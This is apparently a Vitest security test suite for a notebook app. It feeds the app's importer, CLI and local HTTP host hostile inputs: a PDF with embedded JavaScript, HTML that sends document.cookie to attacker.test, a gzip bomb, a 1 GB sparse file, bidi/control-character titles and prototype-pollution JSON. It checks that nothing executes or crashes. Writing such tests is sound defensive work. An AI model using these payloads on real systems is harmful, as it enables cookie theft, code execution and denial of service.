/**
 * A corpus of hostile files through `importPaths` and the `dossier` CLI, hostile note bodies, and
 * hostile requests against the browser host (oversized bodies, invalid JSON, garbage methods,
 * prototype-pollution keys). Nothing crashes, nothing is executed, nothing is decompressed, what
 * cannot be imported is refused with a reason, and the host keeps serving.
 */
import { closeSync, ftruncateSync, openSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startHost, type RunningHost } from '../../electron/host';
import { importPaths, Notebook } from '../../electron/notebook';
import { exportMarkdown } from '../../electron/notebook/export/export';
import { createNote, noteDetail } from '../../electron/notebook/notes/ops';
import { makePdf } from '../helpers/pdf';
import { cli, reportTallies, tally, tmp } from './support';

reportTallies('hostile');

const src = tmp('dossier-hostile-src-');
const files: Record<string, string> = {};
function put(name: string, data: string | Uint8Array): void {
  writeFileSync(path.join(src, name), data);
  files[name] = path.join(src, name);
}

/** A PDF whose catalog runs JavaScript on open (/OpenAction /JS) and names a JavaScript tree. */
function pdfWithJavaScript(): Uint8Array {
  const base = Buffer.from(makePdf(['Quarterly logistics summary', 'Fuel deliveries rose.'], { title: 'Logistics' })).toString('latin1');
  const js = "app.alert('pwned'); this.submitForm('http://attacker.test/'); require('child_process').execSync('touch /tmp/dossier-pwned')";
  const withJs = base.replace('<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${js.replace(/[()\\]/g, '\\$&')}) >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >> /AA << /WC << /S /JavaScript /JS (app.alert(2)) >> >> >>`);
  return new Uint8Array(Buffer.from(withJs, 'latin1'));
}

const HOSTILE_HTML = `<!doctype html><html><head><title>Harmless <script>alert(1)</script> title</title>
<script>fetch('http://attacker.test/?c='+document.cookie)</script><style>body{background:url(http://attacker.test/x.png)}</style>
<meta http-equiv="refresh" content="0;url=http://attacker.test/"></head>
<body onload="alert('onload')"><h1>Field notes</h1><p>Supply lines ran <b>through</b> Hama.<img src=x onerror="alert('img')"></p>
<a href="javascript:alert('link')">click here</a><iframe src="http://attacker.test/"></iframe><svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<form action="http://attacker.test/"><input value="x" onfocus="alert('focus')" autofocus></form><object data="evil.swf"></object>
<noscript><p>no script text</p></noscript><template><script>alert('tpl')</script></template></body></html>`;

const RTL_TITLE = 'Invoice \u202Efdp.exe\u202C \u0007\u001b[31mred\u001b[0m \u200Ftitle';

beforeAll(() => {
  // A zip archive and a gzip bomb named .txt: refused as binary by their magic bytes, never inflated.
  put('archive.txt', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0]), Buffer.alloc(200, 0x41)]));
  put('bomb.txt', gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }));
  put('scripted.pdf', pdfWithJavaScript());
  put('scripted.html', HOSTILE_HTML);
  put('nul.txt', Buffer.from('looks like text\u0000\u0000 but has NUL bytes\u0000 inside', 'utf8'));
  put('deep-quote.md', `# Deep quote\n\n${'>'.repeat(10_000)} the innermost words\n`);
  put('deep-list.md', `# Deep list\n\n${Array.from({ length: 10_000 }, (_, i) => `${' '.repeat(Math.min(i, 2000) * 2)}- level ${i}`).join('\n')}\n`);
  put('deep-brackets.md', `# Brackets\n\n${'[['.repeat(20_000)}x${']]'.repeat(20_000)} ${'`'.repeat(5_000)}\n`);
  put('controls.txt', `${RTL_TITLE}\n\nBody with \u202Eoverride\u202C and C1 \u009b31m controls\u0085 and a bell \u0007.`);
  put('long-line.txt', `Long line report\n\n${'word '.repeat(1_000_000)}`);
  const sparse = path.join(src, 'huge.txt');
  const fd = openSync(sparse, 'w');
  ftruncateSync(fd, 1024 ** 3);
  closeSync(fd);
  files['huge.txt'] = sparse;
}, 60_000);

describe('hostile files through importPaths', () => {
  let nb: Notebook;
  let summary: Awaited<ReturnType<typeof importPaths>>;
  const outcome = (name: string): { id?: string; code?: string; message?: string } => {
    const imp = summary.imported.find((i) => i.path === files[name]);
    if (imp) return { id: imp.id };
    const f = summary.failed.find((x) => x.path === files[name]);
    return { code: f?.error.code, message: f?.error.message };
  };

  beforeAll(async () => {
    nb = await Notebook.open({ dir: tmp(), writable: true, app: 'test' });
    const t0 = Date.now();
    summary = await importPaths(nb, [src]);
    tally('hostile inputs', Object.keys(files).length);
    expect(Date.now() - t0).toBeLessThan(60_000);
  }, 90_000);
  afterAll(async () => nb?.close());

  it('every file has an outcome; nothing threw', () => {
    expect(summary.imported.length + summary.failed.length + summary.duplicates.length).toBe(Object.keys(files).length);
  });

  it('a zip and a gzip bomb named .txt are refused as binary (not decompressed)', () => {
    expect(outcome('archive.txt')).toMatchObject({ code: 'UNSUPPORTED_TYPE', message: expect.stringMatching(/ZIP/) });
    expect(outcome('bomb.txt')).toMatchObject({ code: 'UNSUPPORTED_TYPE', message: expect.stringMatching(/gzip/) });
    expect(process.memoryUsage().rss).toBeLessThan(1.5 * 1024 ** 3);
  });

  it('a PDF with JavaScript is imported as text, its scripts never run', async () => {
    const o = outcome('scripted.pdf');
    if (o.id) expect(await nb.reports.body(o.id)).toMatch(/Fuel deliveries rose/);
    else expect(o.code).toBe('UNSUPPORTED_TYPE');
    const { existsSync } = await import('node:fs');
    expect(existsSync('/tmp/dossier-pwned')).toBe(false);
  });

  it('HTML with scripts and event handlers keeps its text and no markup', async () => {
    const o = outcome('scripted.html');
    expect(o.id).toBeDefined();
    const r = nb.reports.get(o.id ?? '');
    const body = await nb.reports.body(r.id);
    expect(body).toMatch(/Supply lines ran through Hama/);
    expect(body).not.toMatch(/<\s*\/?\s*[a-z]/i);
    expect(body).not.toMatch(/alert\(|onerror|onload|javascript:|attacker\.test|document\.cookie/);
    // <title> is plain text in HTML (RCDATA): the title is what a browser shows, kept as text.
    expect(r.title).toBe('Harmless <script>alert(1)</script> title');
  });

  it('a 1 GB sparse file is refused TOO_LARGE without being read', async () => {
    expect(outcome('huge.txt')).toMatchObject({ code: 'TOO_LARGE' });
    const t0 = Date.now();
    const alone = await importPaths(nb, [files['huge.txt'] ?? '']);
    expect(alone.failed[0]?.error.code).toBe('TOO_LARGE');
    expect(Date.now() - t0).toBeLessThan(1_000);
  });

  it('NUL bytes are refused as binary', () => {
    expect(outcome('nul.txt')).toMatchObject({ code: 'UNSUPPORTED_TYPE', message: expect.stringMatching(/NUL/) });
  });

  it('deeply nested markdown and a 5 MB single line import without a stack overflow', async () => {
    for (const name of ['deep-quote.md', 'deep-list.md', 'deep-brackets.md', 'long-line.txt']) {
      const o = outcome(name);
      expect(o.id, `${name}: ${o.message}`).toBeDefined();
    }
    const long = nb.reports.get(outcome('long-line.txt').id ?? '');
    expect(long.chars).toBeGreaterThan(4_900_000);
    const res = await nb.search.search({ q: 'innermost words' });
    expect(res.results.map((h) => h.id)).toContain(outcome('deep-quote.md').id);
  });

  it('control characters and RTL overrides: the title is cleaned, the text is kept as imported', async () => {
    const o = outcome('controls.txt');
    const r = nb.reports.get(o.id ?? '');
    expect(r.title).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(await nb.reports.body(r.id)).toContain('\u202Eoverride');
  });

  it('notes with hostile bodies: deep nesting, unbalanced links, huge link counts, control characters', async () => {
    const bodies = [
      `${'>'.repeat(10_000)} deep`,
      Array.from({ length: 10_000 }, (_, i) => `${'  '.repeat(i % 500)}- ${i}`).join('\n'),
      `${'[['.repeat(50_000)}${']]'.repeat(50_000)}`,
      Array.from({ length: 5_000 }, (_, i) => `[[Target ${i}|label ${i}]]`).join(' '),
      `\`\`\`\n${'[[inside code]]\n'.repeat(10_000)}`,
      `${RTL_TITLE}\n\u0000\u0001\u009b[2J\ud800 lone surrogate`,
      'x'.repeat(5 * 1024 * 1024),
    ];
    tally('hostile inputs', bodies.length);
    const ids: string[] = [];
    for (const [i, body] of bodies.entries()) {
      const n = await createNote(nb, { title: i === 5 ? RTL_TITLE : `Hostile ${i}`, body });
      expect(noteDetail(nb, n.id).body).toBe(body);
      ids.push(n.id);
    }
    expect(nb.notes.get(ids[5] ?? '').title).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    const out = tmp();
    const res = await exportMarkdown(nb, { noteIds: ids, outDir: out, links: 'wiki' });
    expect(res.files.length).toBeGreaterThanOrEqual(ids.length);
    await nb.search.search({ q: 'deep' });
  });
});

describe('hostile files through the CLI', () => {
  it('imports what it can, names each refusal, and its tables neutralize control and bidi characters', () => {
    const dir = path.join(tmp(), 'nb');
    const r = cli(dir, ['import', src]);
    tally('hostile inputs', Object.keys(files).length);
    expect(r.code).toBe(1); // some files failed
    expect(r.stdout).toMatch(/failed +.*bomb\.txt: looks like binary data, not text \(gzip archive\) \[UNSUPPORTED_TYPE\]/);
    expect(r.stdout).toMatch(/failed +.*huge\.txt: the file is 1024\.0 MB; the limit is 50\.0 MB \[TOO_LARGE\]/);
    const dangerous = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
    expect(r.stdout).not.toMatch(dangerous);
    const list = cli(dir, ['reports']);
    expect(list.code).toBe(0);
    expect(list.stdout).not.toMatch(dangerous);
    const ids = (JSON.parse(cli(dir, ['reports', '--json']).stdout) as Array<{ id: string; originalName: string }>);
    const controls = ids.find((x) => x.originalName === 'controls.txt');
    const show = cli(dir, ['show', controls?.id ?? '']);
    expect(show.code).toBe(0);
    expect(show.stdout).toMatch(/override/);
    expect(show.stdout).not.toMatch(dangerous);
    const note = cli(dir, ['note', 'add', '--title', RTL_TITLE, '--body', `${RTL_TITLE}\n\u009b[2J`, '--json']);
    expect(note.code, note.stderr).toBe(0);
    const id = (JSON.parse(note.stdout) as { id: string }).id;
    for (const args of [['notes'], ['show', id]]) {
      const o = cli(dir, args);
      expect(o.code).toBe(0);
      expect(o.stdout).not.toMatch(dangerous);
    }
  });
});

describe('hostile requests against the browser host', () => {
  let host: RunningHost;
  beforeAll(async () => {
    host = await startHost({ notebookDir: path.join(tmp(), 'nb'), rendererDir: tmp(), maxBodyBytes: 1024 * 1024 });
  });
  afterAll(async () => host?.close());

  function send(body: string | Buffer, headers: Record<string, string> = {}): Promise<{ status: number; json: { ok: boolean; error?: { code: string }; result?: unknown } | null }> {
    return new Promise((resolve, reject) => {
      const req = request(
        { host: '127.0.0.1', port: host.port, method: 'POST', path: '/api', headers: { 'Content-Type': 'application/json', 'X-Dossier-Token': host.token, ...headers } },
        (res) => {
          let text = '';
          res.setEncoding('utf8').on('data', (d: string) => (text += d));
          res.on('end', () => {
            let json = null;
            try {
              json = JSON.parse(text) as { ok: boolean };
            } catch {
              /* not JSON */
            }
            resolve({ status: res.statusCode ?? 0, json });
          });
        },
      );
      req.on('error', (err: NodeJS.ErrnoException) => (err.code === 'ECONNRESET' || err.code === 'EPIPE' ? resolve({ status: 413, json: null }) : reject(err)));
      req.end(body);
    });
  }

  const alive = async (): Promise<void> => {
    const r = await send(JSON.stringify({ method: 'notes.list' }));
    expect(r.status).toBe(200);
  };

  it('an oversized payload gets 413 and the host keeps serving', async () => {
    tally('hostile inputs', 2);
    const big = await send(JSON.stringify({ method: 'notes.create', params: { title: 'big', body: 'x'.repeat(2 * 1024 * 1024) } }));
    expect(big.status).toBe(413);
    const lying = await send(Buffer.alloc(10), { 'Content-Length': String(50 * 1024 * 1024) });
    expect(lying.status).toBe(413);
    await alive();
  });

  it('invalid JSON and wrong shapes get 400', async () => {
    const bodies = ['', '{', 'null', '[]', '"notes.list"', '42', '{"method":42}', '{"params":{}}', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, '\u0000\u0001', Buffer.from([0xff, 0xfe, 0x00]).toString('latin1')];
    tally('hostile inputs', bodies.length);
    for (const b of bodies) {
      const r = await send(b);
      expect(r.status, b.slice(0, 20)).toBe(400);
      expect(r.json?.ok).toBe(false);
    }
    await alive();
  });

  it('garbage and prototype method names get 404 UNKNOWN_METHOD', async () => {
    const methods = ['nope', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'notes.__proto__', 'notes.create.call', '../notes.list', 'x'.repeat(100_000)];
    tally('hostile inputs', methods.length);
    for (const method of methods) {
      const r = await send(JSON.stringify({ method, params: {} }));
      expect(r.status, method.slice(0, 30)).toBe(404);
      expect(r.json?.error?.code).toBe('UNKNOWN_METHOD');
    }
    await alive();
  });

  it('prototype-pollution keys in params are rejected or ignored; no prototype is polluted', async () => {
    const payloads = [
      '{"method":"notes.create","params":{"__proto__":{"polluted":"yes"},"title":"pp1"}}',
      '{"method":"notes.create","params":{"constructor":{"prototype":{"polluted":"yes"}},"title":"pp2"}}',
      '{"method":"notes.create","params":{"title":"pp3","tags":["__proto__","constructor"]}}',
      '{"method":"reports.update","params":{"id":"__proto__","title":"x"}}',
      '{"method":"entities.create","params":{"name":"__proto__","type":"__proto__"}}',
      '{"method":"entities.create","params":{"name":"constructor","type":"other","aliases":["__proto__","prototype"]}}',
      '{"method":"tags.add","params":{"id":"constructor","tags":["x"]}}',
      '{"method":"search.query","params":{"q":"__proto__ constructor prototype","kinds":["__proto__"]}}',
      '{"method":"search.query","params":{"q":"constructor"}}',
      '{"method":"notes.list","params":{"__proto__":null}}',
      '{"method":"notes.list","params":[1,2,3]}',
      '{"method":"notes.list","params":"x"}',
    ];
    tally('hostile inputs', payloads.length);
    for (const p of payloads) {
      const r = await send(p);
      expect([200, 400, 404], p).toContain(r.status);
      expect(r.json, p).not.toBeNull();
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
    // Records named like prototype keys are plain records.
    const list = await send(JSON.stringify({ method: 'entities.list' }));
    expect(list.status).toBe(200);
    const notes = await send(JSON.stringify({ method: 'notes.list' }));
    expect(JSON.stringify(notes.json)).not.toMatch(/polluted/);
    await alive();
  });
});
